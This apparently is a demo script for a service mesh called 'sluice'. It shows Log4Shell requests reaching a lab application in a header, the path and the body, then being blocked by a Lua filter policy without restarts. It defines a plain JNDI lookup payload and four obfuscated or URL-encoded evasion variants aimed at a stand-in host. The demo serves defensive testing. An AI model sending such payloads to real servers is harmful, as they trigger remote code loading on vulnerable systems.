"""The Log4Shell answer, shown: an exploit reaches an application, one `sluice apply` later it does not, in header, path
and body, and nothing was restarted. Part of scripts/demo (--log4shell)."""
import pathlib
import time

import demo_documents as documents
from demo_words import expect, show, title
from lab import net, programs
from lab.process import wait_for

RECIPE = pathlib.Path(__file__).resolve().parents[2] / "docs/log4shell.yaml"
EXPLOIT = "${jndi:ldap://203.0.113.9/a}"
HIDDEN = ("${${lower:j}ndi:ldap://203.0.113.9/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}",
          "%24%7Bjndi:ldap://203.0.113.9/a%7D", "%2524%257Bjndi:ldap://203.0.113.9/a%257D")


class Log4Shell:
    def __init__(self, lab):
        self.lab = lab

    def build(self):
        title("Two nodes; a client on one, on the other an application that logs its requests whole")
        lab = self.lab
        lab.add_nodes("a", "b")
        client, self.app = lab.add_workload("a", "client"), lab.add_workload("b", "app")
        self.log = programs.logging_app(lab, lab.netns("app"), 8080)
        text = "---".join([
            documents.MESH,
            documents.dataplane("client-1", "a", "client", client, ("netns", net.NETNS / lab.netns("client"))),
            documents.dataplane("app-1", "b", "app", self.app[:1], ("netns", net.NETNS / lab.netns("app")), [8080],
                                "http"),
            documents.allow("app-clients", "app", ["client"])])
        for node in ("a", "b"):
            instance = lab.instance(node)
            instance.write_resource("demo", text)
            instance.start()
            show(f"sluice status            # node {node}", instance.sluice("status").stdout)
        self.b = lab.instances["b"]

    def ask(self, path="/", *options):
        """(status, body), and what curl was asked as one line"""
        url = f"http://{self.app[0]}:8080{path}"
        done = self.lab.run("client", "curl", "-gsS", "--noproxy", "*", "--max-time", "10", "-w", "\n%{http_code}",
                            *options, url)
        body, _, status = done.stdout.rpartition("\n")
        shown = " ".join(f"'{one}'" if set(one) & set("${} ") else one for one in (*options, url))
        show(f"curl {shown}", f"{status} {body.strip()}")
        return int(status), body

    def attack(self, text):
        return {self.ask("/", "-H", f"X-Api-Version: {text}")[0], self.ask(f"/search?q={text}")[0],
                self.ask("/", "-d", f"name={text}")[0]}

    def before(self):
        title("Before the policy: the exploit reaches the application, in a header, the path and the body")
        expect(self.attack(EXPLOIT) == {200}, "all three were answered with 200")
        logged = self.log.read_text()
        for line in logged.splitlines():
            if "jndi" in line:
                print(f"   the application logged: {line}")
        expect(logged.count(EXPLOIT) == 3, "the application has logged all three: a vulnerable one would be taken over")

    def policy(self):
        title("One sluice apply of docs/log4shell.yaml, a MeshProxyPatch with a Lua filter")
        self.pids = self.b.pids()
        self.log.write_text("")
        begin = time.monotonic()
        show("sluice apply -f docs/log4shell.yaml     # node b",
             self.b.sluice("apply", "-f", RECIPE).stdout)
        print(f"   in force {time.monotonic() - begin:.2f} s after the command was entered")

    def after(self):
        title("After it: dropped in header, path and body, however it is dressed up; other requests pass")
        expect(self.attack(EXPLOIT) == {403}, "all three are refused")
        for text in HIDDEN:
            expect(self.attack(text) == {403}, f"{text} is refused in all three")
        status, body = self.ask("/search?q=jndi&price=5$", "-H", "Cookie: theme=${dark}",
                                "-d", "name=O'Brien&note=100%")
        expect(status == 200 and "O'Brien" in body, "a benign request with the same characters passes, whole")
        logged = self.log.read_text()
        expect("ldap" not in logged and "rmi" not in logged, "nothing of it has reached the application")
        expect(self.b.pids() == self.pids, "no process was restarted")

    def why(self):
        title("Sluice says why")
        self.ask(f"/search?q={EXPLOIT}")
        out = wait_for(lambda: self.b.sluice("explain", "--client", self.lab.workloads["client"][1],
                                               check=False).stdout, "the request to be recorded", 5.0)
        show("sluice explain --client ...   # node b", out)
        expect("no-log4shell" in out, "explain names the policy and its line")
        lines = [line for line in self.b.sluice("metrics").stdout.splitlines() if 'reason="lua_answered"' in line]
        show("sluice metrics | grep lua_answered", "\n".join(lines))
        expect(any(float(line.split()[-1]) >= 15 for line in lines), "every refused request is counted")
        lines = [line for line in self.b.log.read_text().splitlines() if "lua_answered" in line]
        show("tail -1 sluiced.log", lines[-1])
        out = self.b.sluice("delete", "MeshProxyPatch", "no-log4shell").stdout
        show("sluice delete MeshProxyPatch no-log4shell", out)
        expect(self.ask("/", "-H", f"X-Api-Version: {EXPLOIT}")[0] == 200, "without the policy it passes again")

    def acts(self):
        return [self.build, self.before, self.policy, self.after, self.why]
